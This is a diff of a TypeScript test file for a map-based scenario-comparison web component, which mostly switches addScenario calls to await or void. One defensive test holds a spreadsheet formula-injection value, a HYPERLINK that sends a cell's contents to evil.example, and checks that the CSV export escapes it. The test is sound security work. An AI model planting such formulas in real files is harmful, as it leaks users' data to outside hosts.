@@ -554,7 +554,7 @@ describe('<na-scenario-compare> loading files', function () {
     const { el } = mount();
     const errors: NaScenarioErrorEvent[] = [];
     el.addEventListener('na-scenario-error', (e) => errors.push(e));
-    el.addScenario(smallScenario('Klein A', ['gras', 'verharding']), 'klein-a.geojson');
+    void el.addScenario(smallScenario('Klein A', ['gras', 'verharding']), 'klein-a.geojson');
     await el.whenComputed();
     const text = JSON.stringify(smallScenario('Klein B', ['wadi', 'verharding'], 100));
     const good = new File([text], 'klein-b.geojson', { type: 'application/geo+json' });
@@ -592,9 +592,9 @@ describe('<na-scenario-compare> loading files', function () {
     expect(live.textContent!.trim()).to.equal(first);
     expect(part(el, 'indicator-table')!.querySelectorAll('thead th')).to.have.length(4);
     // A second error: the live region holds that one only, not the list.
-    expect(el.addScenario(smallScenario('Fout B', ['gras', 'zwembad']), 'fout-b.geojson')).to.equal(
-      null,
-    );
+    expect(
+      await el.addScenario(smallScenario('Fout B', ['gras', 'zwembad']), 'fout-b.geojson'),
+    ).to.equal(null);
     await el.updateComplete;
     const messages = [...el.shadowRoot!.querySelectorAll('[part~="error-message"]')].map((m) =>
       m.textContent!.trim(),
@@ -617,8 +617,8 @@ describe('<na-scenario-compare> loading files', function () {
   it('a scenario named like a spreadsheet formula is exported as text in the CSV (issue #13)', async () => {
     const { el } = mount();
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
-    el.addScenario(smallScenario(formula, ['gras', 'verharding']), 'formule.geojson');
-    el.addScenario(smallScenario('@SUM(A1)', ['wadi', 'verharding'], 100), 'som.geojson');
+    void el.addScenario(smallScenario(formula, ['gras', 'verharding']), 'formule.geojson');
+    void el.addScenario(smallScenario('@SUM(A1)', ['wadi', 'verharding'], 100), 'som.geojson');
     await el.whenComputed();
     await el.updateComplete;
     const rows = await parseCsvText(el.exportCsv()!);
@@ -687,8 +687,8 @@ describe('<na-scenario-compare> loading files', function () {
     await until(() => errors.length === 1, 'the load error');
     expect(errors[0]!.detail.code).to.equal('load-failed');
     expect(part(el, 'errors')!.textContent).to.contain('HTTP 404');
-    const same = el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
-    const twin = el.addScenario(smallScenario('Klein A', ['gras', 'wadi']));
+    const same = await el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
+    const twin = await el.addScenario(smallScenario('Klein A', ['gras', 'wadi']));
     expect(same!.name).to.equal('Klein A');
     expect(twin!.name).to.equal('Klein A (2)');
     await el.whenComputed();
@@ -792,8 +792,8 @@ describe('<na-scenario-compare> drawing', function () {
     const bare = listenerSnapshot(map);
     document.body.append(el);
     await el.updateComplete;
-    el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
-    el.addScenario(smallScenario('Klein B', ['wadi', 'verharding'], 100));
+    void el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
+    void el.addScenario(smallScenario('Klein B', ['wadi', 'verharding'], 100));
     await el.whenComputed();
     el.startDrawing('open-water');
     await el.updateComplete;
